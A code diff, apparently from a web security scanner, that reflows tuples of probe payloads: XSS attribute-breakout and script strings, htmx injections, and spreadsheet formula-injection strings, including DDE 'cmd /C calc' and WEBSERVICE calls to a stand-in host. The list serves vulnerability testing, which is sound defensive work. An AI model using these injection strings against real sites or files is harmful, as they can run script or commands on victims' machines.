@@ -25,7 +25,8 @@ _ATTRIBUTES = (
     '" onmouseover="zqx()', "' onmouseover='zqx()", '" autofocus onfocus="zqx()" x="', "' autofocus onfocus='zqx()' x='",
     "x onmouseover=zqx()", "x/onmouseover=zqx()/", '"><img src=/zqx>', "'><img src=/zqx>", '"><script>zqx()</script>',
     '" style="background:url(/zqx)', '" hx-get="/zqx" hx-trigger="load', "' hx-get='/zqx' hx-trigger='load", '" formaction="/zqx',
-    "`onmouseover=zqx()", '" data-hx-get="/zqx', '" srcdoc="zqx', "\" accesskey=x onclick=\"zqx()", "&quot; onmouseover=&quot;zqx()",
+    "`onmouseover=zqx()", '" data-hx-get="/zqx', '" srcdoc="zqx', "\" accesskey=x onclick=\"zqx()",
+    "&quot; onmouseover=&quot;zqx()",
 )  # fmt: skip
 _HTMX = (
     "<div hx-get=/zqx hx-trigger=load></div>", "<div data-hx-get=/zqx data-hx-trigger=load></div>",
@@ -46,8 +47,10 @@ PAYLOADS = (*_SCRIPTS, *_ELEMENTS, *_ATTRIBUTES, *_HTMX, *_ADDRESSES, *_BRACES)
 SHORT = ('"><b zqx>', "<b zqx>", "' zqx='", "<a zqx>", '" zqx="')  # for columns of few letters
 
 FORMULAS = (
-    "=1+1", "=HYPERLINK(\"http://zqx.example\")", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "=cmd|' /C calc'!A0",
-    "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=IMPORTXML(\"//zqx\",\"x\")",
-    "=WEBSERVICE(\"http://zqx.example\")", "=1+1;", "=\"x\"", "==1", "=-1", "+=1", "=A1", "=SUM(A1:A9)", "%0A=1+1", "=1+1\t", "@@",
+    "=1+1", "=HYPERLINK(\"http://zqx.example\")", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1",
+    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")",
+    "=IMPORTXML(\"//zqx\",\"x\")",
+    "=WEBSERVICE(\"http://zqx.example\")", "=1+1;", "=\"x\"", "==1", "=-1", "+=1", "=A1", "=SUM(A1:A9)", "%0A=1+1", "=1+1\t",
+    "@@",
     "--1", "++1", "=@A1", "\x00=1+1", "＝1+1", "\ufeff=1+1", ";=1+1", ",=1+1", "\"=1+1", "'=1+1",
 )  # fmt: skip
